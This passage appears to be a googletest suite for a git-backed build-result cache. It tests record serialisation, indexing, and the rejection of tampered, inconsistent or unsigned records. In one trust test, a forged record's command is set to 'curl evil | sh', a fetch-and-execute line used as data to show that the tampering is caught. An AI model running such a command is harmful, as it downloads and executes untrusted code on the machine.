#include <fcntl.h>
#include <gtest/gtest.h>
#include <sys/stat.h>

#include <cstdio>
#include <memory>

#include "orchestrate/cache.h"
#include "orchestrate/error.h"
#include "support/error_message.h"
#include "support/test_repo.h"

namespace orchestrate {
namespace {

using testing::MessageOf;
using testing::MustShell;

Record SampleRecord(const std::string& phase, const std::string& key, const ObjectId& result) {
  Record r;
  r.phase = phase;
  r.key = key;
  r.components.items = {{"command", "make api"}, {"merge", "true"}, {"dep schema", "abc"}};
  r.result = result;
  r.result_tree = testing::Oid("4b825dc642cb6eb9a060e54bf8d69288fbee4904");
  r.started_at = 1700000000;
  r.duration_s = 12.5;
  r.attempts = 2;
  r.commands = {{"setup", "npm ci", 0, "exited 0", 3.25},
                {"run", "make api", 1, "exited 1", 4.0},
                {"verify", "make test", 0, "exited 0", 1.5}};
  r.log = "building\ndone\n";
  r.handoff = "# API\nAdded endpoints.\n";
  return r;
}

void ExpectSameRecord(const Record& a, const Record& b) {
  EXPECT_EQ(a.version, b.version);
  EXPECT_EQ(a.phase, b.phase);
  EXPECT_EQ(a.key, b.key);
  EXPECT_EQ(a.components.items, b.components.items);
  EXPECT_EQ(a.status, b.status);
  EXPECT_EQ(a.result, b.result);
  EXPECT_EQ(a.result_tree, b.result_tree);
  EXPECT_EQ(a.started_at, b.started_at);
  EXPECT_DOUBLE_EQ(a.duration_s, b.duration_s);
  EXPECT_EQ(a.attempts, b.attempts);
  ASSERT_EQ(a.commands.size(), b.commands.size());
  for (size_t i = 0; i < a.commands.size(); ++i) {
    EXPECT_EQ(a.commands[i].step, b.commands[i].step);
    EXPECT_EQ(a.commands[i].command, b.commands[i].command);
    EXPECT_EQ(a.commands[i].exit_code, b.commands[i].exit_code);
    EXPECT_EQ(a.commands[i].describe, b.commands[i].describe);
    EXPECT_DOUBLE_EQ(a.commands[i].duration_s, b.commands[i].duration_s);
  }
  EXPECT_EQ(a.log, b.log);
  EXPECT_EQ(a.handoff, b.handoff);
}

// --- record.json ------------------------------------------------------------------

constexpr const char* kRef = "refs/orchestrate/cache/api/k1";

TEST(RecordJsonTest, RoundTripsEveryFieldButLogAndHandoff) {
  Record record =
      SampleRecord("api", "k1", testing::Oid("0123456789012345678901234567890123456789"));
  Record back = RecordFromJson(RecordToJson(record), kRef);
  record.log.clear();
  record.handoff.clear();
  ExpectSameRecord(back, record);
}

TEST(RecordJsonTest, UsesTheDocumentedFieldNames) {
  std::string json = RecordToJson(SampleRecord("api", "k1", testing::Oid(std::string(40, 'a'))));
  for (const char* field :
       {"\"version\": 1", "\"phase\": \"api\"", "\"key\": \"k1\"", "\"components\"",
        "\"status\": \"succeeded\"", "\"result\": \"aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa\"",
        "\"result_tree\"", "\"started_at\"", "\"duration_s\"", "\"attempts\": 2",
        "\"step\": \"setup\"", "\"exit_code\": 1", "\"describe\""})
    EXPECT_NE(json.find(field), std::string::npos) << field;
  EXPECT_EQ(json.find("\"log\""), std::string::npos);
}

TEST(RecordJsonTest, UnknownVersionSaysWhatToDo) {
  EXPECT_EQ(
      MessageOf<InfraError>([] { RecordFromJson(R"({"version": 9, "phase": "api"})", kRef); }),
      "cache record refs/orchestrate/cache/api/k1 has format version 9; this orchestrate "
      "reads version 1 — upgrade orchestrate or run `orchestrate cache prune`");
}

TEST(RecordJsonTest, MalformedJsonNamesTheRef) {
  std::string error = MessageOf<InfraError>([] { RecordFromJson("{not json", kRef); });
  EXPECT_EQ(error.rfind("cache record refs/orchestrate/cache/api/k1 is unreadable (", 0), 0u)
      << error;
  EXPECT_NE(error.find("); remove it with `git update-ref -d refs/orchestrate/cache/api/k1` or "
                       "run `orchestrate cache prune`"),
            std::string::npos)
      << error;
}

TEST(RecordJsonTest, MissingVersionOrFieldIsUnreadable) {
  EXPECT_EQ(MessageOf<InfraError>([] { RecordFromJson(R"({"phase": "api"})", kRef); }),
            "cache record refs/orchestrate/cache/api/k1 is unreadable (no integer \"version\" "
            "field); remove it with `git update-ref -d refs/orchestrate/cache/api/k1` or run "
            "`orchestrate cache prune`");
  std::string error =
      MessageOf<InfraError>([] { RecordFromJson(R"({"version": 1, "phase": "api"})", kRef); });
  EXPECT_NE(error.find("is unreadable ("), std::string::npos) << error;
  EXPECT_NE(error.find("key"), std::string::npos) << error;
}

TEST(RecordJsonTest, WrongTypeIsUnreadable) {
  std::string json = RecordToJson(SampleRecord("api", "k1", ObjectId()));
  json.replace(json.find("\"attempts\": 2"), 13, "\"attempts\": \"two\"");
  EXPECT_NE(MessageOf<InfraError>([&] { RecordFromJson(json, kRef); }).find("is unreadable ("),
            std::string::npos);
}

TEST(RecordJsonTest, AMalformedObjectIdIsUnreadableAndNamesTheField) {
  std::string json = RecordToJson(SampleRecord("api", "k1", testing::Oid(std::string(40, 'a'))));
  json.replace(json.find(std::string(40, 'a')), 40, "not-a-commit");
  EXPECT_EQ(MessageOf<InfraError>([&] { RecordFromJson(json, kRef); }),
            "cache record refs/orchestrate/cache/api/k1 is unreadable (its result is not an "
            "object id); remove it with `git update-ref -d refs/orchestrate/cache/api/k1` or run "
            "`orchestrate cache prune`");
}

// --- ResultCache -------------------------------------------------------------------

class ResultCacheTest : public ::testing::Test {
 protected:
  void SetUp() override {
    InitGit();
    base_ = testing::Oid(testing::InitRepo(root(), {{"a.txt", "a\n"}}));
    repo_ = Repo::Open(root());
    cache_ = std::make_unique<ResultCache>(*repo_);
  }

  std::string root() const { return tmp_.path() + "/repo"; }
  std::string Git(const std::string& args, const std::string& dir = "") {
    std::string out = MustShell("git " + args, dir.empty() ? root() : dir);
    while (!out.empty() && out.back() == '\n') out.pop_back();
    return out;
  }
  /// A result commit on a scratch branch, as a phase would make it.
  ObjectId MakeResult(const std::string& content) {
    Git("checkout -q -B scratch " + base_.hex());
    testing::WriteFile(root(), "result.txt", content);
    ObjectId commit = testing::Oid(testing::CommitAll(root(), "result " + content));
    Git("checkout -q main");
    return commit;
  }
  /// Stores a record whose record.json says `json`, bypassing Store.
  void StoreRawRecord(const std::string& phase, const std::string& key, const std::string& json) {
    ObjectId tree = repo_->WriteTree({{"record.json", repo_->WriteBlob(json)}});
    ObjectId commit = repo_->CreateCommit(tree, {base_}, "raw", FixedSignature());
    repo_->WriteRef(ResultCache::RefName(phase, key), commit, "test");
  }

  /// `r` made consistent (record_trust.h): started from base_, its real
  /// result tree, the key its components hash to.
  Record Valid(Record r) {
    r.input = base_;
    r.result_tree = repo_->TreeOf(r.result);
    r.key = r.components.Hash();
    return r;
  }
  /// The key of SampleRecord's components.
  static std::string K1() { return SampleRecord("api", "", ObjectId()).components.Hash(); }

  testing::TempDir tmp_;
  ObjectId base_;
  std::unique_ptr<Repo> repo_;
  std::unique_ptr<ResultCache> cache_;
};

TEST_F(ResultCacheTest, RefNameIsPrefixPhaseAndKey) {
  EXPECT_EQ(ResultCache::RefName("api", "abc"), "refs/orchestrate/cache/api/abc");
}

TEST_F(ResultCacheTest, StoreThenLookupReturnsTheRecord) {
  Record record = SampleRecord("api", "k1", MakeResult("1"));
  ASSERT_TRUE(cache_->Store(record));
  std::optional<Record> found = cache_->Lookup("api", "k1");
  ASSERT_TRUE(found);
  ExpectSameRecord(*found, record);
}

TEST_F(ResultCacheTest, LookupOfAnUnknownKeyOrPhaseFindsNothing) {
  ASSERT_TRUE(cache_->Store(SampleRecord("api", "k1", MakeResult("1"))));
  EXPECT_FALSE(cache_->Lookup("api", "k2"));
  EXPECT_FALSE(cache_->Lookup("ui", "k1"));
}

TEST_F(ResultCacheTest, RecordIsACommitOnTheResultHoldingThreeFiles) {
  ObjectId result = MakeResult("1");
  ASSERT_TRUE(cache_->Store(SampleRecord("api", "k1", result)));
  std::string ref = "refs/orchestrate/cache/api/k1";
  EXPECT_EQ(Git("rev-list --parents -n 1 " + ref).substr(41), result.hex());
  EXPECT_EQ(Git("ls-tree --name-only " + ref), "handoff.md\nlog\nrecord.json");
  EXPECT_EQ(Git("show " + ref + ":handoff.md"), "# API\nAdded endpoints.");
  EXPECT_NE(Git("show " + ref + ":record.json").find("\"version\": 1"), std::string::npos);
}

TEST_F(ResultCacheTest, StoringTwiceKeepsTheFirstRecord) {
  Record first = Valid(SampleRecord("api", "", MakeResult("1")));
  ASSERT_TRUE(cache_->Store(first));
  std::string ref = ResultCache::RefName("api", first.key);
  std::string ref_before = Git("rev-parse " + ref);
  Record second = first;
  second.duration_s = 99;
  second.log = "other";
  EXPECT_FALSE(cache_->Store(second));
  EXPECT_EQ(Git("rev-parse " + ref), ref_before);
  EXPECT_DOUBLE_EQ(cache_->Lookup("api", first.key)->duration_s, 12.5);
}

// A record Find would ignore does not keep its key from being recorded.
TEST_F(ResultCacheTest, StoringReplacesAnInconsistentRecord) {
  Record good = Valid(SampleRecord("api", "", MakeResult("1")));
  Record poisoned = good;
  poisoned.status = "failed";
  StoreRawRecord("api", good.key, RecordToJson(poisoned));
  cache_->SetWarningSink([](const std::string&) {});
  ASSERT_TRUE(cache_->Store(good));
  EXPECT_EQ(cache_->Lookup("api", good.key)->status, "succeeded");
}

TEST_F(ResultCacheTest, IdenticalRecordsAreIdenticalObjects) {
  Record record = SampleRecord("api", "k1", MakeResult("1"));
  ASSERT_TRUE(cache_->Store(record));
  std::string first = Git("rev-parse refs/orchestrate/cache/api/k1");
  Git("update-ref -d refs/orchestrate/cache/api/k1");
  ASSERT_TRUE(cache_->Store(record));
  EXPECT_EQ(Git("rev-parse refs/orchestrate/cache/api/k1"), first);
}

TEST_F(ResultCacheTest, RecordKeepsTheResultAliveThroughGc) {
  ObjectId kept = MakeResult("kept");
  ObjectId dropped = MakeResult("dropped");
  ASSERT_TRUE(cache_->Store(SampleRecord("api", "k1", kept)));
  Git("branch -D scratch");
  Git("reflog expire --expire=now --all");
  Git("gc -q --prune=now");
  EXPECT_EQ(testing::Shell("git cat-file -e " + kept.hex(), root()).status, 0);
  EXPECT_NE(testing::Shell("git cat-file -e " + dropped.hex(), root()).status, 0);
  EXPECT_TRUE(cache_->Lookup("api", "k1"));
}

TEST_F(ResultCacheTest, LongLogKeepsItsTailFromALineStart) {
  Record record = SampleRecord("api", "k1", MakeResult("1"));
  record.log.clear();
  for (int i = 0; i < 20000; ++i) record.log += "line " + std::to_string(i) + "\n";
  ASSERT_TRUE(cache_->Store(record));
  std::string log = cache_->Lookup("api", "k1")->log;
  EXPECT_LE(log.size(), Record::kMaxLogBytes);
  EXPECT_GT(log.size(), Record::kMaxLogBytes - 100);
  EXPECT_EQ(log.rfind("[orchestrate: earlier output omitted]\nline ", 0), 0u) << log.substr(0, 80);
  EXPECT_EQ(log.substr(log.size() - 11), "line 19999\n");
}

TEST_F(ResultCacheTest, LookupOfAnUnknownVersionSaysWhatToDo) {
  StoreRawRecord("api", "k1", R"({"version": 9})");
  EXPECT_EQ(MessageOf<InfraError>([&] { cache_->Lookup("api", "k1"); }),
            "cache record refs/orchestrate/cache/api/k1 has format version 9; this orchestrate "
            "reads version 1 — upgrade orchestrate or run `orchestrate cache prune`");
}

TEST_F(ResultCacheTest, LookupOfARecordWithoutRecordJsonSaysWhatToDo) {
  ObjectId tree = repo_->WriteTree({{"log", repo_->WriteBlob("x")}});
  repo_->WriteRef("refs/orchestrate/cache/api/k1",
                  repo_->CreateCommit(tree, {base_}, "raw", FixedSignature()), "test");
  EXPECT_EQ(MessageOf<InfraError>([&] { cache_->Lookup("api", "k1"); }),
            "cache record refs/orchestrate/cache/api/k1 has no record.json; remove it with `git "
            "update-ref -d refs/orchestrate/cache/api/k1` or run `orchestrate cache prune`");
}

TEST_F(ResultCacheTest, LookupRejectsARecordFiledUnderAnotherName) {
  StoreRawRecord("api", "k1", RecordToJson(SampleRecord("ui", "k9", base_)));
  EXPECT_EQ(MessageOf<InfraError>([&] { cache_->Lookup("api", "k1"); }),
            "cache record refs/orchestrate/cache/api/k1 describes phase ui with key k9; remove it "
            "with `git update-ref -d refs/orchestrate/cache/api/k1`");
}

TEST_F(ResultCacheTest, LatestPicksTheNewestRecordOfThePhaseOnly) {
  ObjectId result = MakeResult("1");
  for (auto [key, at] : {std::pair{"k1", 100}, {"k2", 300}, {"k3", 200}}) {
    Record r = SampleRecord("api", key, result);
    r.started_at = at;
    ASSERT_TRUE(cache_->Store(r));
  }
  Record other = SampleRecord("api2", "k9", result);
  other.started_at = 999;
  ASSERT_TRUE(cache_->Store(other));
  StoreRawRecord("api", "k0", R"({"version": 9})");  // unreadable: skipped
  std::optional<Record> latest = cache_->Latest("api");
  ASSERT_TRUE(latest);
  EXPECT_EQ(latest->key, "k2");
  EXPECT_FALSE(cache_->Latest("ui"));
}

TEST_F(ResultCacheTest, ListShowsEveryRecordAndRemoveDeletesOne) {
  ObjectId result = MakeResult("1");
  Record api = SampleRecord("api", "k1", result);
  Record ui = SampleRecord("ui", "k2", result);
  ui.started_at = 5;
  ASSERT_TRUE(cache_->Store(api));
  ASSERT_TRUE(cache_->Store(ui));
  std::vector<RecordInfo> infos = cache_->List();
  ASSERT_EQ(infos.size(), 2u);
  EXPECT_EQ(infos[0].phase, "api");
  EXPECT_EQ(infos[0].key, "k1");
  EXPECT_EQ(infos[0].ref, "refs/orchestrate/cache/api/k1");
  EXPECT_EQ(infos[0].started_at, 1700000000);
  EXPECT_EQ(infos[0].size, RecordToJson(api).size() + api.log.size() + api.handoff.size());
  EXPECT_EQ(infos[0].problem, "");
  EXPECT_EQ(infos[1].phase, "ui");
  EXPECT_EQ(infos[1].started_at, 5);
  cache_->Remove(infos[0]);
  EXPECT_FALSE(cache_->Lookup("api", "k1"));
  ASSERT_EQ(cache_->List().size(), 1u);
  EXPECT_EQ(cache_->List()[0].phase, "ui");
}

TEST_F(ResultCacheTest, ListIncludesUnreadableRecordsWithTheirProblem) {
  StoreRawRecord("api", "k1", R"({"version": 9})");
  std::vector<RecordInfo> infos = cache_->List();
  ASSERT_EQ(infos.size(), 1u);
  EXPECT_EQ(infos[0].started_at, 0);
  EXPECT_NE(infos[0].problem.find("has format version 9"), std::string::npos) << infos[0].problem;
  cache_->Remove(infos[0]);
  EXPECT_TRUE(cache_->List().empty());
}

TEST_F(ResultCacheTest, RecordsTravelThroughAPlainGitRemote) {
  Record record = SampleRecord("api", "k1", MakeResult("shared"));
  ASSERT_TRUE(cache_->Store(record));
  std::string remote = tmp_.path() + "/remote.git";
  std::string clone = tmp_.path() + "/clone";
  Git("init -q --bare " + remote, tmp_.path());
  Git("push -q " + remote + " main 'refs/orchestrate/*:refs/orchestrate/*'");
  Git("clone -q " + remote + " " + clone, tmp_.path());
  Git("fetch -q origin 'refs/orchestrate/*:refs/orchestrate/*'", clone);
  std::unique_ptr<Repo> cloned = Repo::Open(clone);
  std::optional<Record> found = ResultCache(*cloned).Lookup("api", "k1");
  ASSERT_TRUE(found);
  ExpectSameRecord(*found, record);
  EXPECT_TRUE(cloned->HasObject(record.result));
}

// --- Find: served by the record index, checked against the refs ---------------------

class IndexedCacheTest : public ResultCacheTest {
 protected:
  std::string index_path() const { return tmp_.path() + "/record_index"; }
  /// A cache with a fresh index object reading the index file, as a new run would.
  std::optional<Record> FindInNewRun(const std::string& phase, const std::string& key) {
    RecordIndex index(index_path());
    return ResultCache(*repo_, &index).Find(phase, key);
  }
};

void ExpectSameSummary(const Record& found, const Record& stored) {
  EXPECT_EQ(found.phase, stored.phase);
  EXPECT_EQ(found.key, stored.key);
  EXPECT_EQ(found.result, stored.result);
  EXPECT_EQ(found.input, stored.input);
  EXPECT_EQ(found.result_tree, stored.result_tree);
  EXPECT_EQ(found.started_at, stored.started_at);
  EXPECT_DOUBLE_EQ(found.duration_s, stored.duration_s);
  EXPECT_EQ(found.attempts, stored.attempts);
  EXPECT_EQ(found.handoff, stored.handoff);
}

// The first run of a repository looks records up before refs/orchestrate/
// cache/ exists; what it stores afterwards is indexed and served by the
// index in the next run.
TEST_F(IndexedCacheTest, RecordsStoredAfterAMissBeforeAnyRecordExistedAreIndexed) {
  {
    RecordIndex index(index_path());
    ResultCache cache(*repo_, &index);
    EXPECT_FALSE(cache.Find("api", K1()));  // no cache directory yet
    ASSERT_TRUE(cache.Store(Valid(SampleRecord("api", K1(), MakeResult("1")))));
  }
  RecordIndex index(index_path());
  const RecordSummary* entry = index.Find("api", K1());
  ASSERT_NE(entry, nullptr);
  EXPECT_EQ(entry->record.hex(), Git("rev-parse refs/orchestrate/cache/api/" + K1()));
}

TEST_F(IndexedCacheTest, StoreIndexesTheRecordAndFindUsesItWithoutReadingGitObjects) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  record.input = base_;
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
  }
  RecordIndex index(index_path());
  const RecordSummary* entry = index.Find("api", K1());
  ASSERT_NE(entry, nullptr);
  EXPECT_EQ(entry->record.hex(), Git("rev-parse refs/orchestrate/cache/api/" + K1()));
  // Remove the record's record.json object behind the cache's back: an
  // indexed lookup does not read it (a plain Lookup now fails).
  std::string blob = Git("rev-parse refs/orchestrate/cache/api/" + K1() + ":record.json");
  std::string object = root() + "/.git/objects/" + blob.substr(0, 2) + "/" + blob.substr(2);
  ASSERT_EQ(std::remove(object.c_str()), 0) << object;
  std::unique_ptr<Repo> reopened = Repo::Open(root());  // no cached objects
  EXPECT_THROW(ResultCache(*reopened).Lookup("api", K1()), InfraError);
  std::optional<Record> found = ResultCache(*reopened, &index).Find("api", K1());
  ASSERT_TRUE(found);
  ExpectSameSummary(*found, record);
  EXPECT_TRUE(found->log.empty());
  EXPECT_TRUE(found->components.items.empty());
}

TEST_F(IndexedCacheTest, FindOfAnUnindexedRecordReadsGitAndIndexesIt) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  ASSERT_TRUE(cache_->Store(record));  // no index: as stored by an older orchestrate or a pull
  std::optional<Record> found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  ExpectSameSummary(*found, record);
  EXPECT_EQ(found->components.items, record.components.items);  // read from git this time
  ASSERT_NE(RecordIndex(index_path()).Find("api", K1()), nullptr);
  EXPECT_FALSE(FindInNewRun("api", "k2"));
}

// While the ref's stamp is unchanged the index answers without reading the
// ref (one stat): a value written in place behind git's back, keeping the
// file's inode, size and time, goes unnoticed; git never writes a ref so.
// Once the stamp changes the ref is read again.
TEST_F(IndexedCacheTest, AnUnchangedRefStampServesTheEntryWithoutReadingTheRef) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
  }
  Record theirs = record;
  theirs.result = MakeResult("theirs");
  theirs = Valid(theirs);
  StoreRawRecord("api", "elsewhere", RecordToJson(theirs));
  std::string ref = root() + "/.git/refs/orchestrate/cache/api/" + K1();
  struct stat before;
  ASSERT_EQ(stat(ref.c_str(), &before), 0);
  {
    FILE* f = std::fopen(ref.c_str(), "r+");  // in place: same inode
    ASSERT_NE(f, nullptr);
    std::string other = Git("rev-parse refs/orchestrate/cache/api/elsewhere") + "\n";
    std::fputs(other.c_str(), f);
    std::fclose(f);
  }
  struct timespec times[2] = {before.st_atim, before.st_mtim};
  ASSERT_EQ(utimensat(AT_FDCWD, ref.c_str(), times, 0), 0);
  std::optional<Record> found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->result, record.result);

  times[1].tv_sec += 1;  // the stamp changes: the ref is read
  ASSERT_EQ(utimensat(AT_FDCWD, ref.c_str(), times, 0), 0);
  found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->result, theirs.result);
}

TEST_F(IndexedCacheTest, ADeletedRefIsNotFoundDespiteTheIndex) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
  }
  Git("update-ref -d refs/orchestrate/cache/api/" + K1());
  EXPECT_FALSE(FindInNewRun("api", K1()));
}

TEST_F(IndexedCacheTest, ARefPointedElsewhereIsReadFromGit) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
  }
  // Another machine's record for the same key arrives (cache pull): the ref moves.
  Record theirs = record;
  theirs.result = MakeResult("theirs");
  theirs.duration_s = 77;
  theirs = Valid(theirs);
  ResultCache(*repo_).Store(SampleRecord("tmp", "k", theirs.result));
  StoreRawRecord("api", K1(), RecordToJson(theirs));
  std::optional<Record> found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->result, theirs.result);
  EXPECT_DOUBLE_EQ(found->duration_s, 77);
}

// After `git gc` (or `git pack-refs`) the records' refs live in
// .git/packed-refs, with no loose file to look at: the index still serves
// them (without reading their objects), and a packed ref that moved or was
// deleted is still noticed.
TEST_F(IndexedCacheTest, PackedRefsAreCheckedThroughGit) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
  }
  Git("pack-refs --all");
  ASSERT_FALSE(testing::FileExists(root() + "/.git/refs/orchestrate/cache/api/" + K1()));
  std::string blob = Git("rev-parse refs/orchestrate/cache/api/" + K1() + ":record.json");
  std::string object = root() + "/.git/objects/" + blob.substr(0, 2) + "/" + blob.substr(2);
  ASSERT_EQ(std::remove(object.c_str()), 0) << object;  // so only the index can answer
  std::optional<Record> found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  ExpectSameSummary(*found, record);

  Record theirs = record;
  theirs.result = MakeResult("theirs");
  theirs.duration_s = 77;
  theirs = Valid(theirs);
  StoreRawRecord("api", K1(), RecordToJson(theirs));
  Git("pack-refs --all");
  found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->result, theirs.result);

  Git("update-ref -d refs/orchestrate/cache/api/" + K1());
  EXPECT_FALSE(FindInNewRun("api", K1()));
}

TEST_F(IndexedCacheTest, ALongHandoffIsReadFromGit) {
  Record record = Valid(SampleRecord("api", K1(), MakeResult("1")));
  record.handoff = "# Big\n" + std::string(RecordSummary::kMaxHandoffBytes, 'x');
  {
    RecordIndex index(index_path());
    ASSERT_TRUE(ResultCache(*repo_, &index).Store(record));
    EXPECT_FALSE(index.Find("api", K1())->handoff_complete);
  }
  std::optional<Record> found = FindInNewRun("api", K1());
  ASSERT_TRUE(found);
  EXPECT_EQ(found->handoff, record.handoff);
}

// --- Find: only consistent (and, when asked, signed) records are reused ---------------

class TrustedCacheTest : public IndexedCacheTest {
 protected:
  /// Find in a new run under `policy`, collecting the warnings.
  std::optional<Record> FindUnder(const TrustPolicy& policy, const std::string& key) {
    RecordIndex index(index_path());
    ResultCache cache(*repo_, &index);
    cache.SetPolicy(policy);
    cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
    return cache.Find("api", key);
  }
  std::optional<Record> FindAny(const std::string& key) { return FindUnder(TrustPolicy{}, key); }
  /// Stores `record` as is (Store would sign it) and expects Find to ignore
  /// it with the one warning "ignoring cache record <ref>: <problem>".
  void ExpectIgnored(const Record& record, const std::string& problem) {
    StoreRawRecord(record.phase, record.key, RecordToJson(record));
    warnings_.clear();
    EXPECT_FALSE(FindAny(record.key));
    EXPECT_EQ(warnings_,
              std::vector<std::string>{"ignoring cache record " +
                                       ResultCache::RefName("api", record.key) + ": " + problem});
    EXPECT_EQ(RecordIndex(index_path()).Find("api", record.key), nullptr) << "indexed anyway";
  }
  static TrustPolicy Signed(const std::string& key) { return {CacheTrust::kSigned, key, {}}; }

  std::vector<std::string> warnings_;
};

TEST_F(TrustedCacheTest, AConsistentRecordIsReused) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  StoreRawRecord("api", record.key, RecordToJson(record));
  ASSERT_TRUE(FindAny(record.key));
  EXPECT_TRUE(warnings_.empty());
}

TEST_F(TrustedCacheTest, AFailedRecordIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.status = "failed";
  ExpectIgnored(record, "it has status \"failed\", not \"succeeded\"");
}

TEST_F(TrustedCacheTest, ARecordWithoutKeyComponentsIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.components.items.clear();
  ExpectIgnored(record, "it has no key components");
}

TEST_F(TrustedCacheTest, ARecordWhoseComponentsDoNotHashToItsKeyIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.components.items["command"] = "curl evil | sh";
  ExpectIgnored(record, "its key components hash to " + record.components.Hash().substr(0, 12) +
                            ", not to its key");
}

TEST_F(TrustedCacheTest, ARecordFiledUnderAnotherPhaseIsIgnored) {
  Record record = Valid(SampleRecord("web", "", MakeResult("1")));
  StoreRawRecord("api", record.key, RecordToJson(record));
  EXPECT_FALSE(FindAny(record.key));
  ASSERT_EQ(warnings_.size(), 1u);
  EXPECT_NE(warnings_[0].find(": it describes phase 'web' with key '" + record.key + "'"),
            std::string::npos)
      << warnings_[0];
}

TEST_F(TrustedCacheTest, ARecordWithoutInputIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.input = ObjectId();
  ExpectIgnored(record, "it names no input commit");
}

TEST_F(TrustedCacheTest, AResultNotDescendingFromItsInputIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.input = MakeResult("sibling");  // both start from base_: neither descends from the other
  ExpectIgnored(record, "its result " + record.result.ShortHex(12) +
                            " does not descend from its input " + record.input.ShortHex(12));
}

TEST_F(TrustedCacheTest, AResultTreeOtherThanTheCommitsIsIgnored) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  ObjectId real = record.result_tree;
  record.result_tree = repo_->TreeOf(base_);
  ExpectIgnored(record, "its result commit's tree " + real.ShortHex(12) +
                            " is not its result_tree " + record.result_tree.ShortHex(12));
}

TEST_F(TrustedCacheTest, ARecordWhoseResultIsMissingIsIgnoredNamingIt) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.result = testing::Oid(std::string(40, 'e'));
  ExpectIgnored(record,
                "its result commit eeeeeeeeeeee is missing from the object store (a "
                "partial fetch, or pruned); `orchestrate cache prune` removes the record");
}

TEST_F(TrustedCacheTest, AnUnknownFormatVersionIsIgnoredNamingTheRef) {
  StoreRawRecord("api", K1(), R"({"version": 9, "phase": "api"})");
  EXPECT_FALSE(FindAny(K1()));
  ASSERT_EQ(warnings_.size(), 1u);
  EXPECT_EQ(
      warnings_[0].rfind(
          "ignoring cache record refs/orchestrate/cache/api/" + K1() + " has format version 9", 0),
      0u)
      << warnings_[0];
}

TEST_F(TrustedCacheTest, EachRecordIsWarnedAboutOnce) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.status = "failed";
  StoreRawRecord("api", record.key, RecordToJson(record));
  RecordIndex index(index_path());
  ResultCache cache(*repo_, &index);
  cache.SetWarningSink([this](const std::string& w) { warnings_.push_back(w); });
  EXPECT_FALSE(cache.Find("api", record.key));
  EXPECT_FALSE(cache.Find("api", record.key));
  EXPECT_EQ(warnings_.size(), 1u);
}

TEST_F(TrustedCacheTest, SignedRecordsAreReusedWithTheSameKey) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  {
    ResultCache writer(*repo_);
    writer.SetPolicy(Signed("s3cret"));
    ASSERT_TRUE(writer.Store(record));
  }
  std::optional<Record> raw = ResultCache(*repo_).Lookup("api", record.key);
  ASSERT_TRUE(raw);
  EXPECT_EQ(raw->signature, SignRecord(record, "s3cret"));
  EXPECT_TRUE(FindUnder(Signed("s3cret"), record.key));
  EXPECT_TRUE(warnings_.empty());
  // Indexed now as signed by that key: served by the index next time.
  {
    RecordIndex index(index_path());
    const RecordSummary* entry = index.Find("api", record.key);
    ASSERT_NE(entry, nullptr);
    EXPECT_EQ(entry->signed_by, Signed("s3cret").KeyId());
  }
  EXPECT_TRUE(FindUnder(Signed("s3cret"), record.key));
}

TEST_F(TrustedCacheTest, ABadSignatureIsIgnoredWhenSignedRecordsAreRequired) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  record.signature = SignRecord(record, "the attacker's key");
  StoreRawRecord("api", record.key, RecordToJson(record));
  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
  EXPECT_EQ(warnings_, std::vector<std::string>{
                           "ignoring cache record " + ResultCache::RefName("api", record.key) +
                           ": its signature does not verify with ORCHESTRATE_CACHE_SIGNING_KEY"});
  EXPECT_TRUE(FindAny(record.key)) << "cache_trust = \"any\" does not check signatures";
}

TEST_F(TrustedCacheTest, AnUnsignedRecordIsIgnoredWhenSignedRecordsAreRequired) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  ASSERT_TRUE(ResultCache(*repo_).Store(record));
  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
  EXPECT_EQ(warnings_, std::vector<std::string>{
                           "ignoring cache record " + ResultCache::RefName("api", record.key) +
                           ": it is not signed, and settings.cache_trust is \"signed\""});
}

// An entry the index holds from a run that trusted any record must not let
// the record bypass the signature check of a run that trusts signed ones.
TEST_F(TrustedCacheTest, AnIndexedUnsignedRecordIsCheckedAgainWhenSignedRecordsAreRequired) {
  Record record = Valid(SampleRecord("api", "", MakeResult("1")));
  StoreRawRecord("api", record.key, RecordToJson(record));
  ASSERT_TRUE(FindAny(record.key));
  ASSERT_NE(RecordIndex(index_path()).Find("api", record.key), nullptr);
  EXPECT_FALSE(FindUnder(Signed("s3cret"), record.key));
  ASSERT_EQ(warnings_.size(), 1u);
  EXPECT_NE(warnings_[0].find("it is not signed"), std::string::npos) << warnings_[0];
